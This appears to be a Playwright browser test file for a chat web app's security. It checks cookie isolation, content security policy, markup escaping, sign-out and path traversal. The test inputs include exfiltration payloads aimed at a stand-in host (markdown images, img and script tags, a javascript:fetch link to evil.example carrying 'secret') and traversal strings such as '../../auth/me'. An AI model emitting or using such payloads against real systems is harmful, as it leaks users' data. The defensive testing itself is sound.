"""What must not leave the browser, and what its scripts must not reach."""

import pytest
from playwright.sync_api import expect

from testbed.chatkeep_server import ServerProcess
from ui.tests.browser.people import PATIENCE, Tab

pytestmark = pytest.mark.browser

REACH = """() => JSON.stringify({cookie: document.cookie, address: location.href, local: {...localStorage},
    session: {...sessionStorage}, body: document.documentElement.outerHTML})"""


def test_no_token_is_in_reach_of_scripts(ada: Tab) -> None:
    ada.ask("hello")
    reach = ada.page.evaluate(REACH)
    cookies = ada.page.context.cookies()

    assert {cookie["name"] for cookie in cookies} == {"authkeep_device", "authkeep_refresh", "chatkeep_page"}
    assert all(cookie["httpOnly"] for cookie in cookies)
    assert ada.page.evaluate("document.cookie") == ""
    assert not any(cookie["value"] in reach for cookie in cookies)
    assert "eyJ" not in reach


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](http://evil.example/?q=secret)",
        "![chart][r]\n\n[r]: http://evil.example/?q=secret",
        "<img src='http://evil.example/?q=secret'>",
        "<script src='http://evil.example/x.js'></script><style>@import 'http://evil.example/x.css'</style>",
        "[click](javascript:fetch('http://evil.example'))",
    ],
)
def test_an_answer_makes_no_request(ada: Tab, chat_server: ServerProcess, answer: str) -> None:
    requests: list[str] = []
    ada.page.on("request", lambda request: requests.append(request.url))
    ada.ask(f"[[say {answer}]]")
    ada.page.reload()
    expect(ada.answers.last).to_be_visible(timeout=PATIENCE)

    assert {request.split("/")[2] for request in requests if request.startswith("http")} == {
        chat_server.url.split("/")[2]
    }
    assert ada.answers.last.locator("img, script, style, a[href^=javascript]").count() == 0


def test_even_an_image_that_slipped_through_is_not_loaded(ada: Tab) -> None:
    blocked = ada.page.evaluate(
        """() => new Promise((resolve) => {
            addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            document.body.append(Object.assign(new Image(), {src: "http://evil.example/x.png"}));
        })"""
    )

    assert blocked == "img-src"


def test_a_title_made_of_markup_is_shown_as_typed(ada: Tab) -> None:
    ada.ask("![x](http://evil.example/x.png) :red[hm] $a$")

    row = ada.page.locator("[class*='st-key-ck-open-']").first
    expect(row).to_contain_text("![x](http://evil.example/x.png) :red[hm] $a$")
    assert row.locator("img").count() == 0


def test_the_page_asks_nobody_but_its_own_server(ada: Tab, chat_server: ServerProcess) -> None:
    requests: list[str] = []
    ada.page.on("request", lambda request: requests.append(request.url))
    ada.page.reload()
    ada.wait()

    foreign = [request for request in requests if not request.startswith((chat_server.url, "data:", "blob:"))]
    assert requests
    assert foreign == []


def test_after_signing_out_the_back_button_shows_nothing(ada: Tab) -> None:
    ada.ask("The heron nests at dawn")
    ada.page.get_by_role("button", name="Sign out").click()
    expect(ada.page.get_by_text("You are signed out.")).to_be_visible()
    # The device is known again when somebody signs in on it. That is all its cookie is good for.
    assert [cookie["name"] for cookie in ada.page.context.cookies()] == ["authkeep_device"]

    ada.page.go_back()
    expect(ada.page.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(ada.page.get_by_text("heron")).to_have_count(0)


@pytest.mark.parametrize("chat", ["../../auth/me", "%00", "nothing"])
def test_path_traversal_by_the_chat_in_the_address(ada: Tab, chat: str) -> None:
    ada.page.goto(f"{ada.url}/?chat={chat}")

    expect(ada.page.get_by_role("heading", name="No such chat")).to_be_visible(timeout=PATIENCE)
